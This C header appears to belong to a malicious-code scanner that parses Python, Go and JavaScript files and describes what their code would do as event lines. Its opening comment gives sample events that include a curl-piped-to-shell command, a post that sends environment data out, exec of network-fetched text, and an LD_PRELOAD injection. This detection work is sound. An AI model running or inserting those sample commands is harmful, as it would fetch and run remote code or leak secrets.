/* SPDX-License-Identifier: Apache-2.0 */
#pragma once

/*
 * Private to src/inspect/code: what a source file would do. One language front end per file
 * (python.c, go.c, javascript.c) says what the nodes of its tree mean and what the functions of its
 * libraries do; the rest is shared. The tree is walked twice, children first, without recursion:
 * each expression becomes a value (a name resolved through imports, a folded string, where its
 * content comes from). The first walk learns what functions and variables hold, the second writes
 * one line per event:
 *
 *   import socket
 *   process os.system "curl http://host/x | sh" @module
 *   send requests.post "https://host/", json=?<env,host> @func
 *   eval exec requests.get().text<net> @module
 *   call os.chmod "/tmp/x"<temp>, 511 @func hidden     (the name was looked up at run time)
 *   call x.run y @func obscured hidden                 (and was encoded before)
 *   assign os.environ["LD_PRELOAD"] "/tmp/x.so" @module
 *   text "https://host/api" @module
 *   regex "^0x[a-fA-F0-9]{40}$" @func    (JavaScript: those that look for tokens or wallets)
 *   file python blob exec net            (what was found in the whole file, sorted)
 *
 * Rules (rules/code) are matched against these lines.
 */

#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <tree_sitter/api.h>

#include "base/arena.h"
#include "base/buf.h"
#include "base/digit.h"
#include "base/error.h"
#include "inspect/inspect.h"

/* What a node is, whatever the language calls it. */
enum code_kind {
	CODE_OTHER,
	CODE_ALIAS,
	CODE_ARGS,
	CODE_AS,
	CODE_ASSIGN,
	CODE_ATTR,
	CODE_AUGMENT,
	CODE_BINARY,
	CODE_BLOCK,
	CODE_CALL,
	CODE_CLASS,
	CODE_COMMENT,
	CODE_COMPREHENSION,
	CODE_CONCAT,
	CODE_CONTENT,
	CODE_CONVERT,
	CODE_DICT,
	CODE_DOTTED,
	CODE_ERROR,
	CODE_ESCAPE,
	CODE_FOR_IN,
	CODE_FUNC,
	CODE_IDENT,
	CODE_IMPORT,
	CODE_IMPORT_FROM,
	CODE_INDEX,
	CODE_INTERP,
	CODE_KWARG,
	CODE_LIST,
	CODE_NEW,
	CODE_NUMBER,
	CODE_OBJECT, /* a literal with a type: T{…} */
	CODE_PAIR,
	CODE_PARAMS,
	CODE_PASS, /* the value of its last child */
	CODE_PATTERN,
	CODE_REGEX,
	CODE_RETURN,
	CODE_SLICE,
	CODE_STATEMENT,
	CODE_STRING,
	CODE_TERNARY,
	CODE_TYPE,
};

enum code_field {
	CODE_F_NONE,
	CODE_F_ALIAS,
	CODE_F_ARGS,
	CODE_F_ATTR,
	CODE_F_BODY,
	CODE_F_FUNC,
	CODE_F_INDEX,
	CODE_F_LEFT,
	CODE_F_NAME,
	CODE_F_OBJECT,
	CODE_F_OP,
	CODE_F_PARAM,
	CODE_F_RIGHT,
	CODE_F_SOURCE,
	CODE_F_SUPER,
	CODE_F_TYPE,
	CODE_F_KEY,
	CODE_F_VALUE,
};

/* Where content comes from; the names stand in code_taint_names, in the same order. */
#define CODE_T_NET     (1u << 0)  /* received from the network */
#define CODE_T_DECODED (1u << 1)  /* decoded from base64, hex, compressed, … */
#define CODE_T_HIDDEN  (1u << 2)  /* put together from characters, reversed, … */
#define CODE_T_ENV     (1u << 3)  /* the whole environment */
#define CODE_T_ENVVAR  (1u << 4)  /* one variable of it */
#define CODE_T_HOST    (1u << 5)  /* who and where this is: user, host, addresses */
#define CODE_T_CRED    (1u << 6)  /* files that hold credentials, or their paths */
#define CODE_T_USER    (1u << 7)  /* what comes with a request to a server */
#define CODE_T_OUTPUT  (1u << 8)  /* output of a command */
#define CODE_T_CLIP    (1u << 9)  /* clipboard */
#define CODE_T_SCREEN  (1u << 10) /* screen, camera, microphone */
#define CODE_T_KEYS    (1u << 11) /* key strokes */
#define CODE_T_FILE    (1u << 12) /* a file */
#define CODE_T_STEGO   (1u << 13) /* hidden in an image */
#define CODE_T_PARAM   (1u << 14) /* a parameter of the function */
#define CODE_T_CRYPT   (1u << 15) /* decrypted */
#define CODE_T_SERIAL  (1u << 16) /* bytecode or serialised objects */
#define CODE_T_TEMP    (1u << 17) /* a path in a temporary or public directory */
#define CODE_T_CLI     (1u << 18) /* what the one who starts the program gives: arguments, stdin */
#define CODE_T_HOME    (1u << 19) /* a hidden file of somebody's home, or its path */
#define CODE_TAINTS    20
#define CODE_T_ARG0    (1u << 24) /* which parameter, for what a function does with it */
#define CODE_T_ARGS    (0xfu << 24)
extern const char *const code_taint_names[CODE_TAINTS];

#define CODE_V_EXACT  (1u << 0) /* str is all of it */
#define CODE_V_NUMBER (1u << 1)
#define CODE_V_ANYOF  (1u << 2) /* one of items */
#define CODE_V_HIDDEN (1u << 3) /* the name was put together at run time */
#define CODE_V_FUNC \
	(1u << 4) /* a function of this file; num: 1 + its index, if it has parameters */
#define CODE_V_DICT   (1u << 5)
#define CODE_V_TYPE   (1u << 6)
#define CODE_V_SPREAD (1u << 7) /* items stand for several arguments */

struct code_val {
	const char *name; /* dotted name of what it is, "" when unknown; "f()" is a result of f */
	const char *str;  /* text as far as it is known, "_" for what is not; NULL: not a text */
	uint32_t len;
	uint32_t taint;
	uint32_t start, end; /* in the text */
	uint32_t var;        /* 1 + index of the variable it is, 0: none */
	uint32_t n;
	const struct code_val *items;
	int64_t num;
	const char *key; /* of a keyword argument or pair */
	uint8_t kind, field, flags;
};

/* What a known function does. */
enum code_op {
	CODE_OP_NONE,     /* only where its result comes from */
	CODE_OP_SHELL,    /* first argument: a command for a shell */
	CODE_OP_PROCESS,  /* a command as words, as a list, or (with shell=True) for a shell */
	CODE_OP_PROCESS1, /* the same behind one argument that is something else */
	CODE_OP_EVAL,     /* first argument: code in this language */
	CODE_OP_SEND,     /* sends its arguments */
	CODE_OP_SAME,     /* the receiver or first argument, unchanged for our purposes */
	CODE_OP_COPY,     /* second argument goes into the first */
	CODE_OP_INTO,     /* arguments go into the receiver */
	CODE_OP_IMPORT,   /* module named by a string */
	CODE_OP_GETATTR,  /* member named by a string */
	CODE_OP_MEMBER,   /* member of the receiver named by a string */
	CODE_OP_CALLEE,   /* the receiver itself: f.__call__, f.bind */
	CODE_OP_JOIN,     /* receiver.join(list) */
	CODE_OP_JOIN_SEP, /* list.join(separator), join(list, separator) */
	CODE_OP_FORMAT,   /* receiver.format(…) */
	CODE_OP_PRINTF,   /* format("%s", …) */
	CODE_OP_REPLACE,
	CODE_OP_REVERSE,
	CODE_OP_CHARS, /* characters from numbers */
	CODE_OP_BASE64,
	CODE_OP_BASE32,
	CODE_OP_HEX,
	CODE_OP_ROT13,
	CODE_OP_CODEC,  /* decode(x, "hex") */
	CODE_OP_BUFFER, /* from(x, "base64") */
	CODE_OP_PERCENT,
	CODE_OP_PATH, /* joined with slashes */
	CODE_OP_HOME, /* the home directory */
};

/* The name is in the table, as pointers to names would have to be relocated at every start. */
struct code_known {
	char name[52]; /* full, or ".last" for a method of anything */
	uint8_t op;
	uint32_t taint; /* of the result */
	bool clears;    /* what goes in does not come out */
};

struct code_name {
	const char *name;
	uint8_t value;
};

struct code_walk;

/* A language. Tables are sorted by name. */
struct code_front {
	const char *name;
	enum bawn_lang lang;
	const TSLanguage *(*grammar)(void);
	const struct code_name *kinds;
	size_t n_kinds;
	const struct code_known *known;
	size_t n_known;
	bool index_is_member; /* x["y"] is x.y */
	const char *self;     /* "self.", "this." */
	/* Imports and what else is special; true when `out` was set. */
	bool (*leave)(struct code_walk *w, uint8_t kind, struct code_val *c, size_t n,
		struct code_val *out);
	/* The text of a string node without interpolation: unquoted, escapes resolved. */
	void (*unquote)(struct code_walk *w, struct code_val *v);
	/* A function that is called before anybody asks for it, or a class that is. */
	const char *(*context)(struct code_walk *w, uint8_t kind, const char *name,
		const struct code_val *c, size_t n);
};

extern const struct code_front code_python, code_go, code_javascript;

struct code_var {
	uint32_t scope, len;
	const char *name; /* in the text or in the arena */
	struct code_val val;
};

struct code_scope {
	uint32_t id, parent;
	const char *context; /* "module", "func", "class", "install", "build", "init" */
};

struct code_func {
	const char *name;
	uint32_t scope;
	uint32_t ret; /* taint of what it returns */
	struct code_val result;
	uint32_t n_params;
	bool known; /* its parameters */
	const char *params[4];
	uint32_t args[4];     /* taint of what it was called with */
	const char *sinks[4]; /* the dangerous function a parameter reaches */
};

struct code_event {
	uint32_t line;       /* offset of the line in `lines` */
	uint32_t start, end; /* in the text */
};

struct code_nested {
	const char *text;
	const char *const *argv;
	uint32_t len, start, end;
	bool code;
};

/* Part of the text that was parsed by itself. */
/* A node of the tree, in the order in which they are come upon. */
struct code_step {
	uint32_t start, end;
	uint16_t up; /* how many nodes end here, besides itself */
	uint8_t kind, field;
	bool opened;   /* or nobody needs to see it (punctuation) */
	bool children; /* the next step is the first of them */
};

struct code_piece {
	struct code_step *steps;
	size_t n, cap;
};

struct code_walk {
	struct bawn_scan *scan;
	const struct bawn_subject *sub;
	struct bawn_arena *a;
	const struct code_front *front;
	const char *text;
	uint32_t len;
	bool last;   /* the second walk: events are written */
	bool spent;  /* out of budget */
	bool failed; /* out of memory */
	bool inner;  /* found inside something else: no file of its own */
	bool errors; /* the tree has errors */
	uint32_t scope;
	uint8_t parent; /* kind of the node above the one that is left */

	struct code_piece *pieces;
	size_t n_pieces, cap_pieces;

	struct code_val *vals;
	size_t n_vals, cap_vals;

	struct code_var *vars;
	size_t n_vars, cap_vars;
	uint32_t *index; /* hash table of 1 + index into vars */
	size_t n_index;

	struct code_scope *scopes;
	size_t n_scopes, cap_scopes;
	struct code_func *funcs;
	size_t n_funcs, cap_funcs;

	struct bawn_buf lines;
	struct code_event *events;
	size_t n_events, cap_events;
	uint8_t *seen; /* bitmap: a call starts here */

	struct code_nested *nested;
	size_t n_nested, cap_nested;

	struct bawn_strlist facts;
	unsigned blobs; /* encoded texts so far */
};

/* code.c: everything but the rules: fills lines, events, nested and facts */
int code_understand(struct code_walk *w, struct bawn_error *err);

/* walk.c */
int code_parse(struct code_walk *w, struct bawn_error *err);
void code_walk_all(struct code_walk *w);
const char *code_text(struct code_walk *w, uint32_t start, uint32_t end); /* copy in the arena */
/* a, `between` and up to `len` bytes of b, in the arena; "" when memory is out */
const char *code_join(
	struct code_walk *w, const char *a, const char *between, const char *b, size_t len);

/*
 * pool.c: between these two the parser library's memory is of one piece, and need not be given back
 * part by part if the first one says so. Nothing of the library's may be there before and after.
 */
bool code_pool_begin(void);
void code_pool_end(void);

/* env.c */
struct code_var *code_var_find(struct code_walk *w, const char *name, size_t len);
struct code_var *code_var_set(struct code_walk *w, uint32_t scope, const char *name, size_t len,
	const struct code_val *v);
void code_bind(struct code_walk *w, const struct code_val *target, const struct code_val *v);
struct code_scope *code_scope_at(struct code_walk *w, uint32_t id);
struct code_scope *code_scope_enter(struct code_walk *w, uint32_t id, const char *context);
/* When the code here runs: "install" and "build" count for everything inside. */
const char *code_context(struct code_walk *w);
struct code_func *code_func_named(struct code_walk *w, const char *name);
struct code_func *code_func_of(struct code_walk *w, uint32_t scope);
struct code_func *code_func_add(struct code_walk *w, uint32_t scope, const char *name);

/* eval.c */
struct code_val code_leave(struct code_walk *w, uint8_t kind, struct code_val *c, size_t n,
	uint32_t start, uint32_t end);
/* The variable of a loop, as soon as both sides are known. */
void code_loop(struct code_walk *w, const struct code_val *c, size_t n);
void code_params(struct code_walk *w, const struct code_val *c, size_t n);
const struct code_val *code_child(const struct code_val *c, size_t n, uint8_t field);
uint32_t code_taint_of_name(const struct code_walk *w, const char *name);

/* call.c */
struct code_val code_call(struct code_walk *w, const struct code_val *callee,
	const struct code_val *receiver, const struct code_val *args, size_t n, bool new);
const struct code_known *code_known_find(const struct code_walk *w, const char *name);

/* fold.c: all return a value whose text is folded as far as it is known */
struct code_val code_concat(
	struct code_walk *w, const struct code_val *a, const struct code_val *b);
struct code_val code_str(struct code_walk *w, const char *s, size_t len, uint32_t taint);
bool code_fold(struct code_walk *w, uint8_t op, const struct code_val *receiver,
	const struct code_val *args, size_t n, struct code_val *out);
struct code_val code_reverse(struct code_walk *w, const struct code_val *v);
struct code_val code_percent(
	struct code_walk *w, const struct code_val *f, const struct code_val *args);
uint32_t code_taint_of_text(const char *s, size_t len);
/* The taint of a path made of parts: ".ssh" is one of keys, but ".ssh/known_hosts" has none. */
uint32_t code_taint_of_path(const struct code_val *v);
uint32_t code_taint_of_variable(const char *name); /* of the environment */
bool code_names_home(const char *name);
bool code_names_program(const char *name); /* whether it is there to name a program to be run */

/* render.c */
void code_event(struct code_walk *w, const char *verb, const char *name,
	const struct code_val *args, size_t n, const struct code_val *at);
void code_event_text(struct code_walk *w, const struct code_val *v);

/* lex.c */
void code_lex(struct code_walk *w); /* calls in parts that the grammar does not understand */
/* shape.c */
void code_shape(struct code_walk *w); /* facts about the file as a whole */
void code_fact(struct code_walk *w, const char *fact);

/* forbidden.c: what the policy says about code */
int code_forbidden_events(struct code_walk *w);
bool code_path_allowed(struct code_walk *w, const struct code_event *e);
int code_forbidden_patterns(
	struct bawn_scan *s, const struct bawn_subject *sub, struct bawn_error *err);
int code_forbidden_commands(
	struct bawn_scan *s, const struct bawn_subject *sub, struct bawn_error *err);
